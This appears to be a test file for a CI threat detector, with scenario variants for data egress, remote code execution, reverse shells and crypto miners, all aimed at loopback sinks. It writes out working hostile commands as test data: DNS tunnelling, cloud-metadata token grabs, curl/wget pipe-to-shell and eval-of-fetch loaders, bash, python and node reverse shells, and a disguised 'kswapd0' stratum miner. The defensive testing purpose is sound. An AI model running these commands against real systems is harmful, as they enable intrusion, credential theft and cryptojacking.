// Scenario variants for THREATS.md classes 6–9 (suspicious egress, remote code execution, reverse shells,
// miners), with other tools and encodings than the shared cases. Nothing leaves loopback: every name resolves
// to a 127.77.x sink, and the one raw cloud-metadata connect runs in an empty network namespace where it fails.
import t from 'tap';
import { runSuite, type Variant } from '../helpers/scenario-suite.js';
import { url, RAW_SINK, SHELL_SINK, POOL_SINK } from '../helpers/scenario-world.js';

const variants: Variant[] = [
  { cls: 6, name: 'DNS tunnelling: python getaddrinfo with long hex labels', min: 'medium', spec: () => ({ trigger: 'push', script: `
python3 - <<'PY'
import os, socket
for i in range(6):
    chunk = os.urandom(48).hex()
    try: socket.getaddrinfo(f"{chunk[:50]}.{chunk[50:]}.{i}.t.sinkzone.test", 80, socket.AF_INET)
    except OSError: pass
print("sent")
PY` }) },
  { cls: 6, name: 'DNS tunnelling: getent with base32 labels', min: 'medium', spec: () => ({ trigger: 'pull_request', script: `
for i in 1 2 3 4; do getent hosts "$(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z).$i.sinkzone.test" >/dev/null || true; done
echo ok` }) },
  { cls: 6, name: 'raw-IP connect with no DNS (python socket)', min: 'medium', spec: (net) => ({ trigger: 'pull_request', fork: true, script: `
python3 -c 'import socket; s = socket.create_connection(("${RAW_SINK}", ${net.http[RAW_SINK]}), 3); s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); s.recv(100)'` }) },
  { cls: 6, name: 'cloud metadata by name (metadata.google.internal) from a fork', min: 'high', spec: (net) => ({ trigger: 'pull_request', fork: true, script: `
curl -s -m 3 -H 'Metadata-Flavor: Google' ${url(net, 'metadata.google.internal', '/computeMetadata/v1/instance/service-accounts/default/token')} >/dev/null || true` }) },
  { cls: 6, name: 'cloud metadata 169.254.169.254 (connect fails in an empty netns)', min: 'high', spec: () => ({ trigger: 'pull_request_target', script: `
unshare -n python3 -c '
import socket
try: socket.create_connection(("169.254.169.254", 80), 1)
except OSError as e: print("metadata:", e.strerror)'` }) },
  { cls: 6, name: 'OAST domain fetched by node', min: 'high', spec: (net) => ({ trigger: 'push', script: `
node -e 'require("http").get(process.argv[1], (r) => r.resume()).on("error", () => {})' ${url(net, 'x7k2.oast.pro', '/p')}
sleep 0.3` }) },

  { cls: 7, name: 'wget -O- | bash from an unknown CDN', min: 'high', spec: (net) => {
    net.payloads.set('/setup.sh', Buffer.from('echo installing helper\ntrue\n'));
    return { trigger: 'pull_request', script: `wget -q -O- ${url(net, 'dl.toolz-cdn.net', '/setup.sh')} | bash` };
  } },
  { cls: 7, name: 'python exec(urlopen(...).read())', min: 'high', spec: (net) => {
    net.payloads.set('/stage2.py', Buffer.from('import platform\nprint("stage2 on", platform.system())\n'));
    return { trigger: 'pull_request', script: `python3 -c 'from urllib.request import urlopen; exec(urlopen("${url(net, 'cdn.fastpkg.xyz', '/stage2.py')}").read())'` };
  } },
  { cls: 7, name: 'node -e eval of a fetch() body', min: 'high', spec: (net) => {
    net.payloads.set('/s.js', Buffer.from('console.log("stage2 in", process.pid)\n'));
    return { trigger: 'push', script: `node -e 'fetch(process.argv[1]).then((r) => r.text()).then(eval)' ${url(net, 'cdn.fastpkg.xyz', '/s.js')}` };
  } },
  { cls: 7, name: 'executes a file dropped into ~/.cache', min: 'high', spec: (net) => {
    net.payloads.set('/upd', Buffer.from('#!/bin/sh\necho updater $$\n'));
    return { trigger: 'push', script: `
mkdir -p ~/.cache/.updater
curl -s -m 3 -o ~/.cache/.updater/upd ${url(net, 'dl.toolz-cdn.net', '/upd')}
chmod +x ~/.cache/.updater/upd
~/.cache/.updater/upd` };
  } },

  { cls: 8, name: 'bash -i >& /dev/tcp reverse shell', min: 'high', spec: (net) => ({ trigger: 'pull_request', script: `
timeout 5 bash -c 'bash -i >& /dev/tcp/${SHELL_SINK}/${net.shellPort} 0>&1' 2>/dev/null || true` }) },
  { cls: 8, name: 'python pty.spawn reverse shell', min: 'high', spec: (net) => ({ trigger: 'pull_request', script: `
timeout 5 python3 -c 'import socket, os, pty
s = socket.create_connection(("${SHELL_SINK}", ${net.shellPort}))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn("/bin/sh")' 2>/dev/null || true` }) },
  { cls: 8, name: 'node spawns sh with the socket as stdio', min: 'high', spec: (net) => ({ trigger: 'push', script: `
timeout 5 node -e 'const s = require("net").connect(${net.shellPort}, "${SHELL_SINK}", () => { const c = require("child_process").spawn("/bin/sh", ["-i"], { stdio: [s, s, s] }); c.on("exit", () => process.exit(0)); })' 2>/dev/null || true` }) },

  { cls: 9, name: 'renamed miner (kswapd0 in ~/.cache) with stratum argv', min: 'high', spec: () => ({ trigger: 'push', script: `
mkdir -p ~/.cache/.k
cat > ~/.cache/.k/kswapd0 <<'PY'
#!/usr/bin/env python3
import socket, sys
host, port = sys.argv[sys.argv.index("-o") + 1].split("//")[1].split(":")
s = socket.create_connection((host, int(port)), 3)
s.sendall(b'{"id":1,"method":"login","params":{"login":"48abc","pass":"x"}}\\n')
print(s.recv(200)[:20])
PY
chmod +x ~/.cache/.k/kswapd0
timeout 5 ~/.cache/.k/kswapd0 -o stratum+tcp://mine.hashvault.pro:3333 -u 48abc -p x --threads 2 || true` }) },
  { cls: 9, name: 'node with xmrig-style options to a pool port by IP', min: 'high', spec: () => ({ trigger: 'pull_request', script: `
timeout 5 node -e 'const s = require("net").connect(3333, "${POOL_SINK}", () => s.write("{\\"method\\":\\"login\\"}\\n")); s.on("data", () => s.end()); s.on("error", () => {})' -- --algo=rx/0 --donate-level=1 --coin monero || true` }) },
];

runSuite(t, variants);
